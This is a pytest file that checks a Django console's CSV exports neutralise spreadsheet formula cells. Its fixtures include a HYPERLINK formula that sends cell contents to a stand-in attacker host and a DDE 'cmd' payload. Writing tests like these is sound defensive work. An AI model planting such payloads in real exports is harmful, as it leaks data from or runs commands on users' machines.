"""Every CSV the console serves defuses every cell a spreadsheet would run as a formula (issue 14,
row 8): names, ids, labels and reasons alike, including cells that start with a tab or a CR."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import timedelta

import pytest
from django.utils import timezone

from apps.audit.services import record
from apps.deployments.models import Deployment
from apps.inbox.models import Decision, Status
from apps.workflow.models import BulkJob

pytestmark = pytest.mark.django_db

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]


def _formulas(body: str) -> list[str]:
    return [cell for cell in _cells(body) if cell.startswith(FORMULA_START)]


@pytest.fixture
def formula_deployment(team_a, langgraph_url):
    return Deployment.objects.create(team=team_a, name=HYPERLINK, url=langgraph_url)


def test_the_bulk_report_defuses_every_cell_not_only_the_reason(
    client, oscar, formula_deployment, item_factory
):
    item_factory(
        formula_deployment, thread_id="\t=1+1", interrupt_id="\r@SUM(A1:A9)", graph_id="-2+3"
    )
    client.force_login(oscar)
    client.post("/workflow/bulk/", {"decision": "approve", "confirm_total": "1"})
    job = BulkJob.objects.get()

    response = client.get(f"/workflow/bulk/{job.pk}/report.csv")

    assert response.status_code == 200
    body = response.content.decode()
    assert _formulas(body) == []
    cells = _cells(body)
    assert "'" + HYPERLINK in cells
    assert "'\t=1+1" in cells
    assert "'\r@SUM(A1:A9)" in cells


def test_the_metrics_export_defuses_graph_tool_and_operator_cells(
    client, alice, formula_deployment, item_factory
):
    item = item_factory(
        formula_deployment,
        graph_id="\t+cmd|' /C calc'!A0",
        asked_at=timezone.now() - timedelta(hours=1),
    )
    Decision.objects.create(
        interrupt=item,
        team_id=item.team_id,
        deployment_id=item.deployment_id,
        action=Decision.Action.ANSWER,
        resume_value=[{"type": "accept", "args": {}}],
        decided_by=alice,
        decided_by_label="@alice",
        batch=uuid.uuid4(),
    )
    item.status = Status.DECIDED
    item.save()
    client.force_login(alice)

    response = client.get("/workflow/metrics.csv?days=7")

    assert response.status_code == 200
    body = response.content.decode()
    assert _formulas(body) == []
    assert "'\t+cmd|' /C calc'!A0" in _cells(body)
    assert "'@alice" in _cells(body)


def test_the_audit_export_defuses_tab_and_carriage_return_cells(client, alice, team_a):
    record(actor=alice, action="team.note", target=team_a, team_id=team_a.pk, reason="\t=1+1")
    record(actor=alice, action="team.note", target=team_a, team_id=team_a.pk, reason="\r-1+1")
    client.force_login(alice)

    response = client.get("/audit/export.csv")

    body = b"".join(response.streaming_content).decode()
    assert _formulas(body) == []
    assert {"'\t=1+1", "'\r-1+1"} <= set(_cells(body))
